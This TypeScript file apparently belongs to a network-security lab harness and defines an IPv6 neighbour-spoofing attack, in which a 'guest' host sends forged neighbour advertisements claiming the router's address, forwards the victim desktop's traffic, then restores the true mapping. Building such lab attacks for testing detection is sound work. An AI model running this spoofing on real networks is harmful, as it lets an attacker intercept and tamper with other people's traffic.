import { type Attack, type Intensity, intensities } from '../contracts.ts';
import { hostPlans } from '../layout.ts';
import { programPath } from '../programs/run-program.ts';
import { relayed6, runAndRestore, whileForwarding } from './interception.ts';
import { neighbourAdvertisement } from './neighbour-frames.ts';

const periods: Readonly<Record<Intensity, number>> = { quiet: 6, medium: 2, loud: 0.5 };
const restoreSeconds = 3;

/** Our own sender: "the router's IPv6 address is mine", to one victim; taken back at the end. */
export const neighbourSpoofing: Attack = {
  kind: 'neighbour-spoofing',
  summary: "a host says the router's IPv6 address is its own",
  needs: [],
  intensities,
  actor: 'guest',
  targets: ['desktop'],
  async run({ lab, intensity, actor, targets, seconds, signal }) {
    const router = lab.host('router');
    const say = (mac: string): string =>
      targets
        .map(target => ({
          sourceMac: actor.mac,
          source: router.address6,
          destinationMac: target.mac,
          destination: target.address6,
        }))
        .map(ends => Buffer.from(neighbourAdvertisement(ends, router.address6, mac)).toString('hex'))
        .join(',');
    const period = String(periods[intensity]);
    const words = [programPath('frame-repeater'), 'eth0', period, say(actor.mac), say(router.mac)];
    const limits = { seconds: Math.max(1, seconds - 1), restoreSeconds, signal };
    await whileForwarding(actor, 6, () => runAndRestore(actor, process.execPath, words, limits));
    const outside = hostPlans.flatMap(({ name, role }) =>
      role === 'outside' && lab.has(name) ? [lab.host(name)] : [],
    );
    return {
      tool: 'our own sender',
      arguments: `every ${period} s: ${router.address6} is at ${actor.mac}`,
      claims: relayed6(actor, targets, [router, ...outside]),
    };
  },
};
